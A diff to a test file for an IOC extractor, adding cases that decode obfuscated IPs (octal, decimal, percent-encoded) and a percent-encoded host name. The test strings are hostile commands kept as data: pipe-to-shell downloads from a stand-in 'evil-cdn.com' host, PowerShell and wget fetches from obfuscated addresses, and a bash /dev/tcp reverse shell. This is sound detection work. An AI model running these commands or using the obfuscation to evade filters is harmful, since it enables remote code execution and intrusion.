@@ -324,6 +324,18 @@ def test_drive_after_other_backslash_text_is_no_path() -> None:
         # octal parts where four decimal octets cannot be read
         ("http://0300.0250.1.1/", "192.168.1.1", "0300.0250.1.1"),
         ("curl -s http://3232235777:8080/a.sh | sh", "192.168.1.1", "3232235777"),
+        # the forms of SigmaHQ's "Obfuscated IP Download Activity" rule, all 81.4.124.10
+        ("iwr http://0121.04.0174.012/a.ps1", "81.4.124.10", "0121.04.0174.012"),
+        ("iwr http://81.4.31754/a.ps1", "81.4.124.10", "81.4.31754"),
+        ("curl http://81.293898/x", "81.4.124.10", "81.293898"),
+        ("wget http://012101076012/p", "81.4.124.10", "012101076012"),
+        ("wget http://1359248394/p", "81.4.124.10", "1359248394"),
+        # percent-encoded, as browsers decode a host before they connect
+        (
+            "iwr http://%38%31%2e%34%2e%31%32%34%2e%31%30/a.ps1",
+            "81.4.124.10",
+            "%38%31%2e%34%2e%31%32%34%2e%31%30",
+        ),
         # the other hosts an address is read from
         (r"net use \\2130706433\c$", "127.0.0.1", "2130706433"),
         ("bash -i >& /dev/tcp/3232235777/4444 0>&1", "192.168.1.1", "3232235777"),
@@ -351,6 +363,21 @@ def test_a_host_written_in_other_numbers_gives_its_address(
 )
 def test_numbers_that_are_no_address_give_none(text: str) -> None:
     assert _found(text, "ipv4") == set()
+
+
+def test_a_percent_encoded_host_name_gives_the_name() -> None:
+    text = "curl http://%65%76%69%6c-cdn.com/x.sh | sh"
+    found = [m for m in IocExtractor().finditer(text) if m.type == "dns"]
+    assert [(m.value, m.raw) for m in found] == [("evil-cdn.com", "%65%76%69%6c-cdn.com")]
+    assert _found(text, "url") == {"http://%65%76%69%6c-cdn.com/x.sh"}
+    # escapes of anything but a host name are no host
+    for text in (
+        "http://ev%ZZil.com/",
+        "http://a%2fb.com/",
+        "http://%25%32%35/",
+        "http://%ff.com/",
+    ):
+        assert _found(text, "url") == set(), text
 
 
 def test_short_decimal_hosts_and_decimal_octets_keep_their_reading() -> None:
